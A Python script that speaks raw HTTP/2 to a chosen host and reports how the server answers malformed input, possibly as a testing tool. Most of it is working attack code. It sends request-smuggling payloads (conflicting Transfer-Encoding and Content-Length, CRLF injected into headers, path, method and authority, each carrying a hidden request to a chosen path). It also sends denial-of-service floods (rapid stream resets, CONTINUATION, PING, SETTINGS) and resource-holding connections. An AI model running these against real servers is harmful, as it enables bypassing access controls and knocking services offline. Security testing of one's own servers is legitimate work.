# SPDX-License-Identifier: MIT
# http2_frames.py HOST MODE [ARGUMENT]: sends frames of HTTP/2 that libraries do not send, and prints how each attempt ended: the status of
# the answer, "reset CODE" of the stream, "goaway CODE" of the connection, or "closed".
import os
import socket
import ssl
import struct
import sys

import hpack

HOST, MODE = sys.argv[1], sys.argv[2]
ARGUMENT = sys.argv[3] if len(sys.argv) > 3 else ""
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, MORE = 0, 1, 2, 3, 4, 6, 7, 8, 9
END, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    def sized(text):
        data, size = text.encode("latin-1"), b""
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest = len(data) - 127
        while rest > 127:
            size += bytes([rest & 127 | 128])
            rest >>= 7
        return b"\x7f" + size + bytes([rest]) + data
    return b"\0" + sized(name) + sized(value)


def fields(method="GET", path="/private", authority=HOST, *others):
    return [(":method", method), (":scheme", "https"), (":path", path), (":authority", authority), *others]


def request(stream, pairs, flags=END | END_HEADERS):
    return frame(HEADERS, flags, stream, b"".join(literal(*pair) for pair in pairs))


class Connection:
    def __init__(self):
        context = ssl.create_default_context()
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(socket.create_connection((HOST, 443), timeout=60), server_hostname=HOST)
        assert self.socket.selected_alpn_protocol() == "h2", "HTTP/2 was not agreed on"
        self.decoder = hpack.Decoder()
        self.received = b""
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

    def send(self, data):
        self.socket.sendall(data)

    def frames(self):
        while True:
            while len(self.received) >= 9:
                size = int.from_bytes(self.received[:3], "big")
                if len(self.received) < 9 + size:
                    break
                kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9], "big")
                payload, self.received = self.received[9:9 + size], self.received[9 + size:]
                yield kind, flags, stream, payload
            piece = self.socket.recv(65536)
            if not piece:
                return
            self.received += piece

    def result(self, wanted):
        try:
            for kind, flags, stream, payload in self.frames():
                if kind == GOAWAY:
                    return f"goaway {int.from_bytes(payload[4:8], 'big')}"
                if kind == HEADERS:
                    status = dict(self.decoder.decode(payload, raw=False)).get(":status")
                    if stream == wanted:
                        return status
                if kind == RESET and stream == wanted:
                    return f"reset {int.from_bytes(payload, 'big')}"
        except OSError as error:
            return f"closed ({error.__class__.__name__})"
        return "closed"


def attempt(name, data, wanted=1):
    connection = Connection()
    try:
        connection.send(data)
    except OSError:
        pass  # the answer may be there
    print(f"{name}: {connection.result(wanted)}")


HIDDEN = f"GET {ARGUMENT} HTTP/1.1\r\nHost: {HOST}\r\n\r\n"
if MODE == "authority":
    attempt("the authority", request(1, fields(authority=ARGUMENT)))
elif MODE == "smuggle":
    post = fields("POST")
    chunked = [*post, ("transfer-encoding", "chunked")]
    body = HIDDEN.encode()
    attempt("Transfer-Encoding", request(1, chunked, END_HEADERS) + frame(DATA, END, 1, b"0\r\n\r\n" + body))
    attempt("Transfer-Encoding in capitals", request(1, [*post, ("Transfer-Encoding", "chunked")], END_HEADERS) + frame(DATA, END, 1, b"0\r\n\r\n" + body))
    attempt("a shorter Content-Length", request(1, [*post, ("content-length", "1")], END_HEADERS) + frame(DATA, END, 1, b"a" + body))
    attempt("a longer Content-Length", request(1, [*post, ("content-length", "99")], END_HEADERS) + frame(DATA, END, 1, body))
    attempt("two Content-Length", request(1, [*post, ("content-length", "0"), ("content-length", str(len(body)))], END_HEADERS) + frame(DATA, END, 1, body))
    attempt("Connection", request(1, [*fields(), ("connection", "authorization")]))
    attempt("Upgrade", request(1, [*fields(), ("upgrade", "websocket")]))
    attempt("a line end in a value", request(1, [*fields(), ("a", "b\r\n\r\n" + HIDDEN)]))
    attempt("a line end in a name", request(1, [*fields(), ("a: b\r\n\r\n" + HIDDEN + "c", "d")]))
    attempt("a line end in the path", request(1, fields(path="/private HTTP/1.1\r\n\r\n" + HIDDEN)))
    attempt("a blank in the path", request(1, fields(path=f"/private {ARGUMENT}")))
    attempt("a line end in the method", request(1, fields(method="GET / HTTP/1.1\r\n\r\n" + HIDDEN + "GET")))
    attempt("a line end in the authority", request(1, fields(authority=HOST + "\r\n\r\n" + HIDDEN)))
    attempt("a user in the authority", request(1, fields(authority="user@" + HOST)))
    attempt("another Host", request(1, [*fields(), ("host", "also.example")]))
    attempt("two paths", request(1, [*fields()[:3], (":path", ARGUMENT), *fields()[3:]]))
    attempt("a path behind other fields", request(1, [*fields(), ("a", "b"), (":path", ARGUMENT)]))
    attempt("a path of another scheme", request(1, fields(path=f"https://{HOST}{ARGUMENT}")))
    attempt("the scheme http", request(1, [(":method", "GET"), (":scheme", "http"), *fields()[2:]]))
    attempt("CONNECT", request(1, [(":method", "CONNECT"), (":authority", f"{HOST}:443")]))
    attempt("an unknown pseudo field", request(1, [(":protocol", "websocket"), *fields()]))
elif MODE == "floods":
    streams = range(1, 4001, 2)
    opened = request(1, fields("POST"), END_HEADERS)
    attempt("streams that are reset", b"".join(request(i, fields()) + frame(RESET, 0, i, b"\0\0\0\x08") for i in streams), 0)
    attempt("malformed streams", b"".join(request(i, [*fields(), ("a", "\1")]) for i in streams), 0)
    attempt("CONTINUATION", frame(HEADERS, END, 1, literal(":method", "GET")) + frame(MORE, 0, 1, literal("a", "b")) * 10000, 0)
    attempt("empty CONTINUATION", frame(HEADERS, END, 1, literal(":method", "GET")) + frame(MORE, 0, 1) * 10000, 0)
    attempt("PING", frame(PING, 0, 0, b"12345678") * 50000, 0)
    attempt("SETTINGS", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1000)) * 5000, 0)
    attempt("PRIORITY", frame(PRIORITY, 0, 3, b"\0\0\0\1\1") * 5000, 0)
    attempt("empty DATA", opened + frame(DATA, 0, 1) * 5000, 0)
elif MODE == "usual":
    attempt("a usual request", request(1, fields()))
elif MODE == "silent":
    # Asks for much and reads nothing; the windows are as large as they can be.
    connection = Connection()
    connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
    for i in range(1, 201, 2):
        connection.send(request(i, fields(path="/zeros")))
    print("asked", flush=True)
    sys.stdin.read()
elif MODE == "open":
    # A hundred requests that do not end.
    connection = Connection()
    for i in range(1, 201, 2):
        connection.send(request(i, fields("POST", "/post"), END_HEADERS) + frame(DATA, 0, i, os.urandom(600)))
    print("asked", flush=True)
    sys.stdin.read()
